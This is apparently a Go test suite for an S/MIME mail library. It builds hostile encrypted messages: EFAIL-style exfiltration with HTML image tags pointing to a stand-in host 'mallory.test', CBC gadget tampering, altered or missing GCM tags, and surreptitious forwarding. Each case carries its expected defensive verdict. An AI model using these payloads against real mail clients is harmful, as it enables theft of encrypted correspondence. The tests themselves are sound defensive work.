package hostiletest

import (
	"strings"

	"github.com/sealmail/sealmail/smime"
	"github.com/sealmail/sealmail/smime/cms"
)

// encryptionCases are about encrypted messages that were altered, or that do not belong where they are.
func encryptionCases() []Case {
	// shut is a message of which nothing is shown.
	shut := func(status string, codes ...string) Expectation {
		return Expectation{Verdict: "unsigned", Encryption: status, Codes: codes, NotText: []string{"4711"}, NotScreen: []string{"4711", "PASSED"}}
	}
	// enclosed is a message with a stolen ciphertext in it, which stays shut.
	enclosed := Expectation{Verdict: "unsigned", NotText: []string{"4711"}, NotScreen: []string{"4711", "PASSED"}}
	return []Case{
		{"401-control-encrypted", `
			Nothing is wrong with this one: encrypted with AES-256-GCM, and signed by Alice inside (RFC 8551 section 3.6). The
			others are this message with one thing changed. It must be opened, and pass.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", From: "alice@example.test", Text: []string{"4711"}, Screen: []string{"encrypted with AES-256-GCM to you alone"}},
			func(l *Lab) string { return l.mail(l.sealed(l.sign(text(secret), l.Alice))) }},
		{"402-exfiltration-in-mixed", `
			A stolen ciphertext stands between two HTML parts of Mallory: the first opens the address of an image and the last
			closes it. A reader that decrypts parts and puts them into one page sends the secret to Mallory's server (direct exfiltration,
			EFAIL). An encrypted part inside a message is no protection of the message, and stays shut.`,
			enclosed,
			func(l *Lab) string {
				return l.mail(multipart("mixed", html(`<img src="http://mallory.test/`), l.sealed(text(secret)), html(`">`)), malloryFrom)
			}},
		{"403-exfiltration-in-related", `
			The same in a multipart/related, whose root refers to the encrypted part by cid: as the content of a frame. The
			part stays shut.`,
			enclosed,
			func(l *Lab) string {
				root := html(`<iframe src="cid:secret@mallory.test"></iframe><img src="http://mallory.test/?`)
				return l.mail(multipart(`related; type="text/html"`, root, "Content-ID: <secret@mallory.test>\r\n"+l.encrypt(text(secret), cms.AES256CBC, l.Bob)), malloryFrom)
			}},
		{"404-stolen-in-alternative", `
			A stolen ciphertext is one of two alternatives, and the other is a question that Bob would answer. A reader that shows
			the question and quotes the secret along with it gives it away to the sender. It stays shut.`,
			enclosed,
			func(l *Lab) string {
				return l.mail(multipart("alternative", text("Shall we meet at ten?\n"), l.sealed(text(secret))), malloryFrom)
			}},
		{"405-stolen-in-a-forward", `
			A stolen ciphertext as an attached message, complete with Alice's header: "did you send this?". Opened in place, the
			answer would quote it. Only layers from the outside in are opened.`,
			enclosed,
			func(l *Lab) string {
				return l.mail(multipart("mixed", text("Did you get this, too?\n"), forwarded(l.mail(l.sealed(text(secret))))), malloryFrom)
			}},
		{"406-stolen-and-hidden", `
			A harmless question in large letters, then many empty lines and a style that hides what follows, then the stolen
			ciphertext. The person sees the question alone and answers it with everything quoted below (covert content). The part stays
			shut, so that there is nothing to quote.`,
			enclosed,
			func(l *Lab) string {
				question := html("<p style=\"font-size:200%\">Shall we meet at ten?</p>" + strings.Repeat("<br>", 60) + `<style>*{display:none}</style>`)
				return l.mail(multipart("mixed", question, l.sealed(text(secret))), malloryFrom)
			}},
		{"407-stolen-and-signed", `
			Mallory put the stolen ciphertext into a multipart/mixed with a question, and signed it with her own good certificate,
			in her own name. The signature makes the message hers and no more: a part inside stays shut.`,
			Expectation{Verdict: "passed", From: "mallory@example.test", Text: []string{"ten"}, NotText: []string{"4711"}, NotScreen: []string{"4711"}},
			func(l *Lab) string {
				return l.mail(l.sign(multipart("mixed", text("Shall we meet at ten?\n"), l.sealed(text(secret))), l.Mallory), malloryFrom)
			}},
		{"408-stolen-and-encrypted", `
			Mallory encrypted a multipart/mixed to Bob in which the stolen ciphertext is a part. A reader that walks on through what it has
			decrypted opens it. What is inside a multipart is a part, in decrypted text too.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"ten"}, NotText: []string{"4711"}, NotScreen: []string{"4711", "PASSED"}},
			func(l *Lab) string {
				return l.mail(l.sealed(multipart("mixed", text("Shall we meet at ten?\n"), l.sealed(text(secret)))), malloryFrom)
			}},
		{"409-gadget", `
			A CBC ciphertext was altered so that it decrypts to markup which its maker never wrote: the address of an image, with
			the secret as a part of it (the CBC gadget of EFAIL). All that Mallory had to know is how a mail begins. CBC notices nothing, so that it is
			shown as not authenticated; nothing is loaded from anywhere.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"not-authenticated", "exfiltration"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string {
				return l.mail(cbc(secretPage, l.BobRSA).gadget("Content-Type: te", 2, `<base href="http`, `://mallory.test/`, `"><img     alt="`, `" src="         `).entity(), malloryFrom)
			}},
		{"410-gadget-at-the-beginning", `
			The same, with the markup right behind the first block, in the middle of the header. The noise of the gadget is in the
			header then, where no honest mail has control characters. Nothing of it is shown.`,
			shut("failed"),
			func(l *Lab) string {
				return l.mail(cbc(secretPage, l.BobRSA).gadget("Content-Type: te", 0, `<img src="http:/`, `/mallory.test/? `).entity(), malloryFrom)
			}},
		{"411-gadget-under-a-signature", `
			A message that Alice signed and then encrypted with CBC was altered in the same way. The signature inside is over other
			octets now. A reader that decrypts, shows, and verifies afterwards has lost the secret before. It is failed, and nothing was
			loaded.`,
			Expectation{Verdict: "failed", Encryption: "decrypted", Codes: []string{"digest-mismatch", "not-authenticated", "exfiltration"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string {
				signed := l.sign(secretPage, l.Alice)
				behind := (strings.Index(signed, "<p>Dear Bob") + 16) / 16
				return l.mail(cbc(signed, l.BobRSA).gadget(signed[:16], behind, `<img     title="`, `" src="http://m/`).entity(), malloryFrom)
			}},
		{"412-tag-altered", `
			One bit of the tag of an AuthEnvelopedData was changed. All of the text would decrypt, and the tag says that it is not what
			was encrypted. RFC 5084 section 1.3: nothing may be released then.`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.tag[0] ^= 1
				return l.mail(e.entity())
			}},
		{"413-ciphertext-altered", `
			One bit of the ciphertext of an AuthEnvelopedData was changed, by which one letter of the text would be another. The tag
			does not fit, and nothing is released.`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.ciphertext[len(e.ciphertext)-10] ^= 1
				return l.mail(e.entity())
			}},
		{"414-attributes-altered", `
			An authenticated attribute was altered: they are not encrypted, and the tag covers them (RFC 5083 section 2.2). A reader
			that computes the tag over the text alone would believe what they say.`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16, attribute(cms.OIDAttributeContentType, oid(cms.OIDData)), attribute(cms.OIDAttributeMessageDigest, der(tagOctets, []byte("kept"))))
				e.attributes = []byte(strings.Replace(string(e.attributes), "kept", "lost", 1))
				return l.mail(e.entity())
			}},
		{"415-tag-short", `
			The parameters say that the tag has four octets, and it has: one forgery in four billion fits, and knowledge of the key
			leaks with each. RFC 5084 section 3.2 allows twelve to sixteen.`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 12)
				e.parameters = append(e.parameters[:len(e.parameters)-1], 4)
				e.tag = e.tag[:4]
				return l.mail(e.entity())
			}},
		{"416-tag-missing", `
			The tag of an AuthEnvelopedData is empty. Who compares as many octets as there are finds that all of them fit (RFC 5083
			section 2.1: mac is required, RFC 5084 section 3.2: its length).`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.tag = []byte{}
				return l.mail(e.entity())
			}},
		{"417-cut", `
			The second half of an AuthEnvelopedData is missing, with the tag. A reader that decrypts as it reads has shown the first
			half by the time it notices. Nothing is released before all of it was checked.`,
			shut("failed"),
			func(l *Lab) string {
				der := gcm(text(secret+strings.Repeat("All is well.\n", 40)), l.BobRSA, 16).der()
				return l.mail(p7m(der[:len(der)/2], "authEnveloped-data"))
			}},
		{"418-cut-cbc", `
			The last block of a CBC ciphertext is missing, so that the text ends early and the padding is most likely wrong. What
			is wrong about a ciphertext is never said, nor any of it shown.`,
			shut("failed"),
			func(l *Lab) string {
				e := cbc(text(secret+strings.Repeat("All is well.\n", 40)), l.BobRSA)
				e.ciphertext = e.ciphertext[:len(e.ciphertext)-16]
				return l.mail(e.entity())
			}},
		{"419-gcm-as-enveloped-data", `
			A GCM ciphertext in an EnvelopedData, where there is no room for a tag. A reader that takes the cipher's name for the
			form calls it authenticated, though nobody could check anything. RFC 5084 section 1 has GCM for AuthEnvelopedData. It is not
			opened with any key.`,
			Expectation{Verdict: "unsigned", Encryption: "undecryptable", Codes: []string{"unsupported-algorithm"}, NotText: []string{"4711"}, NotScreen: []string{"4711", "PASSED"}},
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.tag = nil
				return l.mail(e.entity())
			}},
		{"420-to-somebody-else", `
			The message is encrypted to Carol alone, and it came to Bob, whose keys do not open it. That is not a forgery; nothing can be
			shown.`,
			shut("undecryptable"),
			func(l *Lab) string { return l.mail(l.encrypt(text(secret), cms.AES256GCM, l.Carol)) }},
		{"421-two-keys", `
			Two RecipientInfos name Bob's certificate and hand over two keys, of which the second opens the message. The first makes
			noise of it. All that match are to be tried (RFC 5652 section 6.2), and noise is never shown.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"4711"}, Screen: []string{"to you alone"}},
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.recipients = append([][]byte{transport(randomKey(32), l.BobRSA)}, e.recipients...)
				return l.mail(e.entity())
			}},
		{"422-two-keys-cbc", `
			The same with CBC, where a wrong key is noticed by the padding in 255 of 256 cases, and by what comes out in the others. Noise is
			never shown.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"not-authenticated"}, Text: []string{"4711"}},
			func(l *Lab) string {
				e := cbc(text(secret), l.BobRSA)
				e.recipients = append([][]byte{transport(randomKey(32), l.BobRSA)}, e.recipients...)
				return l.mail(e.entity())
			}},
		{"423-type-says-signed", `
			smime-type says signed-data and the file name .p7m, and the CMS message is an AuthEnvelopedData. A reader that believes the
			parameter shows "signed". The parameter is a hint (RFC 8551 section 3.2.2); the message itself knows what it is.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"4711"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string { return l.mail(p7m(body(l.sealed(text(secret))), "signed-data")) }},
		{"424-triple-des", `
			The message is encrypted with Triple-DES, whose blocks of 64 bits leak in long messages. RFC 8551 section 2.7 has dropped it.
			It is not opened unless weak algorithms are allowed, and the reason is said.`,
			shut("undecryptable", "weak-algorithm"),
			func(l *Lab) string {
				e := cbc(text(secret), l.BobRSA)
				e.cipher, e.parameters = cms.TripleDESCBC, der(tagOctets, make([]byte, 8))
				return l.mail(e.entity())
			}},
		{"425-no-recipient", `
			An EnvelopedData with an empty set of recipients. RFC 5652 section 6.1 wants one at least. Nobody can open it, and it is
			damaged rather than for somebody else.`,
			shut("failed"),
			func(l *Lab) string {
				e := gcm(text(secret), l.BobRSA, 16)
				e.recipients = nil
				return l.mail(e.entity())
			}},
		{"426-plain-text-in-the-place-of-cms", `
			The type says application/pkcs7-mime; smime-type=enveloped-data, and the body is readable text. A reader that falls back
			to showing what it cannot decrypt, with the lock of the type beside it, is fooled.`,
			Expectation{Verdict: "unsigned", Encryption: "failed", NotText: []string{"666"}, NotScreen: []string{"666", "PASSED"}},
			func(l *Lab) string { return l.mail(p7m([]byte(text(lie)), "enveloped-data")) }},
	}
}

// secretPage is HTML whose words begin with a block of their own.
const secretPage = "Content-Type: text/html; charset=utf-8\r\n" + // 40 octets, and 8 of the next line make three blocks
	"\r\n<html>" + "<body><p>Dear Bob,<br>the safe opens with 4711.</p></body></html>\r\n"

// wrappingCases are about who signed what is encrypted, and for whom.
func wrappingCases() []Case {
	return []Case{
		{"441-signed-around-a-ciphertext", `
			Mallory took Alice's ciphertext and signed it, in her own name. A reader that shows the decrypted text as signed by Mallory
			lets her claim what she has never read; the answer would give it away. Whoever signs a ciphertext need not know what is
			in it: indeterminate.`,
			Expectation{Verdict: "indeterminate", Encryption: "decrypted", Codes: []string{"signed-outside"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string { return l.mail(l.sign(l.sealed(text(secret)), l.Mallory), malloryFrom) }},
		{"442-signed-around-a-signed-ciphertext", `
			The same with Alice's signature inside the ciphertext: Mallory's outside, From Mallory. The innermost signature that covers
			the whole is Alice's, and it does not speak for Mallory.`,
			Expectation{Verdict: "failed", Encryption: "decrypted", Codes: []string{"address-mismatch"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string {
				return l.mail(l.sign(l.sealed(l.sign(text(secret), l.Alice)), l.Mallory), malloryFrom)
			}},
		{"443-triple-wrapped", `
			Alice signed, encrypted, and signed again: triple wrapping (RFC 2634 section 1.1). All three layers are in order. It
			passes.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", From: "alice@example.test", Text: []string{"4711"}},
			func(l *Lab) string { return l.mail(l.sign(l.sealed(l.sign(text(secret), l.Alice)), l.Alice)) }},
		{"444-triple-wrapped-outer-broken", `
			The outer signature of a triple wrapped message is over another ciphertext. The inner one is good. Layers outside the judged
			one must be in order (integrity and chain): failed.`,
			Expectation{Verdict: "failed", Encryption: "decrypted", Codes: []string{"digest-mismatch"}, NotScreen: []string{"PASSED"}},
			func(l *Lab) string {
				inner := l.sealed(l.sign(text(secret), l.Alice))
				d := signedDraft{content: []byte(l.sealed(text("x\n"))), detached: true, signers: []signerDraft{{id: l.Alice}}}
				return l.mail(multipartSigned(inner, p7s(d.der())))
			}},
		{"445-triple-wrapped-by-a-stranger", `
			The outer signature of a triple wrapped message is of somebody under an authority that Bob does not trust. Its integrity
			holds and its chain does not: the message is indeterminate.`,
			Expectation{Verdict: "indeterminate", Encryption: "decrypted", Codes: []string{"no-anchor"}, Text: []string{"4711"}},
			func(l *Lab) string {
				stranger := l.issue(l.Stranger, keyOf("gateway"), "gateway", nil)
				return l.mail(l.sign(l.sealed(l.sign(text(secret), l.Alice)), stranger))
			}},
		{"446-triple-wrapped-by-a-gateway", `
			The outer signature of a triple wrapped message is of Mallory, whose certificate is good, as a gateway signs what passes
			through it. The inner one is Alice's and decides who sent it. It passes as Alice.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", From: "alice@example.test", Text: []string{"4711"}, Screen: []string{"PASSED        signed by Alice Adams"}},
			func(l *Lab) string { return l.mail(l.sign(l.sealed(l.sign(text(secret), l.Alice)), l.Mallory)) }},
		{"447-surreptitious-forwarding", `
			Alice wrote to Mallory, signed with a protected header, and encrypted. Mallory decrypted it and encrypted it anew to Bob,
			with "To: bob" outside. A reader that shows a good signature and the outer To makes Bob believe that Alice wrote to
			him. The protected To is Mallory: this mail was not addressed to you.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", Codes: []string{"not-addressed-to-you"}, Screen: []string{"not addressed to you", "mallory@example.test"}},
			func(l *Lab) string {
				inner := protected("cipher", text("You are dismissed.\n"), "From: Alice Adams <alice@example.test>", "To: mallory@example.test", "Subject: "+l.messageID,
					"Date: Sat, 21 Nov 2026 10:00:00 +0000", l.idField(), "HP-Outer: To: mallory@example.test")
				return l.mail(l.sealed(l.sign(inner, l.Alice)))
			}},
		{"448-surreptitious-forwarding-unnoticed", `
			The same without a protected header: nothing in the message says whom Alice wrote to, and nobody can tell. It passes, and
			To is marked as not protected, which is all there is to say (RFC 9788 section 1.1 is about mending that).`,
			Expectation{Verdict: "passed", Encryption: "decrypted", NotCodes: []string{"not-addressed-to-you"}, Screen: []string{"(not protected)"}},
			func(l *Lab) string { return l.mail(l.sealed(l.sign(text("You are dismissed.\n"), l.Alice))) }},
		{"449-resent-under-another-name", `
			Mallory took Alice's ciphertext, which is not signed, and sent it to Bob under her own From. It opens, and a reader
			that shows "encrypted, from Mallory" makes her the author. Encryption names no sender: unsigned.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", From: "mallory@example.test", NotScreen: []string{"PASSED"}},
			func(l *Lab) string { return l.mail(l.sealed(text(secret)), malloryFrom) }},
		{"450-resent-with-protected-header", `
			The same with a protected header inside, which names Alice (RFC 9788), and no signature. The address of From differs
			outside. RFC 9788 section 4.4.2 and 4.4.3: without a signature that is valid and bound, the user is warned and shown the
			outer one.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"from-mismatch"}, From: "mallory@example.test", Screen: []string{"mallory@example.test   (not protected)"},
				NotScreen: []string{"PASSED"}},
			func(l *Lab) string {
				return l.mail(l.sealed(protected("cipher", text(secret), append(l.usualProtected(), "HP-Outer: From: Alice Adams <alice@example.test>", "HP-Outer: To: bob@example.test", "HP-Outer: Subject: [...]")...)), malloryFrom)
			}},
		{"451-signed-inside-resent", `
			Alice signed and encrypted with a protected header, and Mallory sent it on with her own From outside. The signature is
			bound to the protected From, which is shown (RFC 9788 section 4.4.3), and that it differs outside is said.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", Codes: []string{"from-differs"}, From: "alice@example.test"},
			func(l *Lab) string {
				return l.mail(l.sealed(l.sign(protected("cipher", text(secret), append(l.usualProtected(), "HP-Outer: Subject: "+l.messageID)...), l.Alice)), malloryFrom)
			}},
		{"452-not-signed-but-compressed", `
			The message is encrypted, and compressed inside (RFC 3274). Compression says nothing about a sender and changes nothing
			about what is known. It opens, and is unsigned.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"4711"}},
			func(l *Lab) string { return l.mail(l.sealed(compressed(text(secret)))) }},
		{"453-encrypted-twice", `
			The message is encrypted to Bob twice over, the inner layer with CBC. What can be said of both layers together is what the
			weaker one gives: the inner cipher does not show alteration, though whoever could alter it needed a key to the outer.`,
			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"not-authenticated"}, Text: []string{"4711"}},
			func(l *Lab) string { return l.mail(l.sealed(l.encrypt(text(secret), cms.AES128CBC, l.Bob))) }},
		{"454-inner-layer-for-somebody-else", `
			The outer layer opens with Bob's key, and inside is a ciphertext for Carol. The message as a whole is not opened, and says
			so, rather than that it was decrypted.`,
			Expectation{Verdict: "unsigned", Encryption: "undecryptable", NotScreen: []string{"4711"}},
			func(l *Lab) string { return l.mail(l.sealed(l.encrypt(text(secret), cms.AES256GCM, l.Carol))) }},
		{"455-many-layers", `
			Nine signatures, one around the other. Honest mail has three layers. Each costs a pass over the message, and so there is a
			limit, beyond which nothing is judged.`,
			Expectation{Fails: "nested too deeply"},
			func(l *Lab) string {
				entity := text(offer)
				for range 9 {
					entity = l.signAs(entity, Identity{l.Alice.Key, l.Alice.Chain[:1]}, smime.SignOptions{})
				}
				return l.mail(entity)
			}},
		{"456-protected-to-several", `
			Alice wrote to Carol and Bob, with a protected header, and encrypted to both. Bob is among the protected recipients. Nothing
			is wrong: no warning about whom it was addressed to.`,
			Expectation{Verdict: "passed", Encryption: "decrypted", NotCodes: []string{"not-addressed-to-you", "header-differs"}, Text: []string{"4711"}, Screen: []string{"to you and 1 other"}},
			func(l *Lab) string {
				inner := protected("cipher", text(secret), "From: Alice Adams <alice@example.test>", "To: carol@example.test, bob@example.test", "Subject: "+l.messageID,
					"Date: Sat, 21 Nov 2026 10:00:00 +0000", l.idField(), "HP-Outer: From: Alice Adams <alice@example.test>",
					"HP-Outer: To: carol@example.test, bob@example.test", "HP-Outer: Subject: [...]", "HP-Outer: Date: Sat, 21 Nov 2026 10:00:00 +0000", "HP-Outer: "+l.idField())
				return l.mail(l.encrypt(l.sign(inner, l.Alice), cms.AES256GCM, l.Bob, l.Carol), "To: carol@example.test, bob@example.test", "Subject: [...]")
			}},
	}
}
